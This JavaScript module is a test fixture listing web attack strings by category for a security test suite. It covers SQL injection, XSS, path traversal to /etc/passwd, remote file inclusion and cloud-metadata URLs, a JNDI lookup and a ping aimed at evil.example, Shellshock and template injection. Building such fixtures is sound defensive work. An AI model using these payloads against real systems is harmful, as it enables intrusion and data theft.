// Attack texts in the public vocabulary, written for this suite, by category. The categories are those of NAXSI's core
// rules (SQL injection, obvious remote file inclusion, directory traversal, cross-site scripting, evading tricks, file
// uploads: github.com/wargio/naxsi, naxsi_rules/naxsi_core.rules) and, for what has come since, the sections of the OWASP
// Web Security Testing Guide 4.2 §4.7 (command, template, LDAP, XPath, XXE, header and format-string injection) and of
// CAPEC-63, 66, 126, 193, 242. None of it is copied from a rule file, and none of it is looked for by the edge: it has no
// list of patterns.

const LIST = {
  sql: [
    "' OR '1'='1", "1 UNION SELECT username, password FROM accounts--", "1; DROP TABLE codes;--", "admin'/*", "0x50 or sleep(9)",
    "1' AND (SELECT 1 FROM pg_sleep(9)) IS NULL--", "\" or \"\"=\"", "'||(SELECT version())||'", "`id`;select/**/1", "1 or 1=1#", "%27%20OR%201%3D1",
  ],
  xss: [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "<svg/onload=alert`1`>", "';alert(1)//",
    "<iframe srcdoc='<script>1</script>'>", "{{constructor.constructor('alert(1)')()}}", "</title><script>1</script>", "&#x3C;script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E", "<a href=\"data:text/html,<script>1</script>\">",
  ],
  traversal: [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd%00.png", "..;/admin",
    "%252e%252e%252f", "c:\\boot.ini", "..%c0%af..%c0%afetc/passwd", "file:///proc/self/environ",
  ],
  rfi: [
    "http://evil.example/shell.txt", "https://evil.example/?x=", "ftp://evil.example/a", "php://input", "data:text/plain;base64,PD9waHA=", "//evil.example/x",
    "gopher://127.0.0.1:6379/_FLUSHALL", "http://169.254.169.254/latest/meta-data/", "expect://id", "http://[::1]:80/",
  ],
  evasion: [
    "%u0027", "%c0%27", "%ff%fe", "%00", "\u2032 OR 1=1", "\uff1cscript\uff1e", "%2527", "%0d%0aSet-Cookie:a=b", "a\u202egnp.exe", "%e0%80%af", "&#0000039", "%",
  ],
  upload: ["shell.php", "x.asp;.jpg", ".htaccess", "a.php%00.png", "WEB-INF/web.xml", "index.cgi", ".git/config", ".env"],
  command: ["; cat /etc/passwd", "| id", "$(id)", "`id`", "&& ping -c 9 evil.example", "() { :;}; /bin/id", "${jndi:ldap://evil.example/a}", "\n/bin/id"],
  template: ["${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "*{T(java.lang.Runtime).getRuntime()}", "%s%s%n%x", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '"],
  xxe: ["<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<?xml version=\"1.0\"?><x/>", "__proto__", "constructor[prototype][x]", "{\"$gt\":\"\"}", "[$ne]"],
};

/** [{category, text}] */
export const ATTACKS = Object.entries(LIST).flatMap(([category, texts]) => texts.map((text) => ({ category, text })));
export const CATEGORIES = Object.keys(LIST);
